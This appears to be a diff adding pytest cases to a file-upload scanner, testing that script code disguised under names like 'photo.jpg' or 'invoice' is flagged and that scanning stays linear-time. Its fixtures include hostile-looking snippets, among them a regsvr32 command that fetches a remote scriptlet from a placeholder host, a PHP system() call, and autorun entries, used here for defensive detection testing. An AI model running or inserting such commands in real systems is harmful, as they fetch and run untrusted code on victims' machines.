@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 
 from gateway.detect.base import Scope, Tally
@@ -71,3 +73,34 @@ def test_evidence_is_masked():
 @pytest.mark.parametrize("data", [b"[InternetShortcut]" + b"\n" * 8000, b";x\n" * 3000, b";x    \n" * 1000, b"<Project>" + b" " * 8000, b" " * 8000])
 def test_hostile_beginnings_are_linear(data):
     look(data, "a.dat")
+
+
+@pytest.mark.parametrize(("data", "code"), [
+    (b"var s = new ActiveXObject('WScript.Shell');\r\n", "SCRIPT-HOST"),
+    ("Set s = CreateObject(\"Shell.Application\")".encode("utf-16-le"), "SCRIPT-HOST"),
+    (b"$c = New-Object System.Net.WebClient\r\n", "SCRIPT-HOST"),
+    (b"regsvr32 /s /u /i:http://h.example/a.sct scrobj.dll\r\n", "SCRIPT-BATCH"),
+    (b"rem\r\nstart \"\" %TEMP%\\a.exe\r\n", "SCRIPT-BATCH"),
+    (b"<?php system(1);", "SCRIPT-SHELL"),
+    (b"[Desktop Entry]\nType=Application\nExec=/bin/x\n", "SCRIPT-SHELL-FILE"),
+    (b"[autorun]\r\nopen=a.exe\r\n", "SCRIPT-SETUP"),
+])
+@pytest.mark.parametrize("name", ["photo.jpg", "invoice", "a.dat"])
+def test_code_under_a_name_that_promises_no_text(data, code, name):
+    assert [(f.code, f.severity) for f in look(data, name)] == [(code, Severity.HIGH)]
+
+
+@pytest.mark.parametrize(("data", "names"), [
+    (b"var s = new ActiveXObject('WScript.Shell');\r\n", ("review.txt",)), (b"var s = new ActiveXObject('WScript.Shell');\r\n", ()),
+    (b"Start the service at https://h.example/\n", ("README",)), (b"certutil is a program\n", ("README",)),
+    (b"Call Bob: https://meet.example/\n", ("note",)),
+])
+def test_prose_about_code_is_no_code(data, names):
+    assert not [f for f in look(data, *names) if f.severity >= Severity.HIGH]
+
+
+@pytest.mark.parametrize("line", [b"[autorun]", b"<Project ", b"powershell ", b"&start /b ", b"[Desktop Entry]"])
+def test_code_is_looked_for_in_linear_time(line):
+    begun = time.process_time()
+    look(line * 20_000, "a.dat")
+    assert time.process_time() - begun < 1
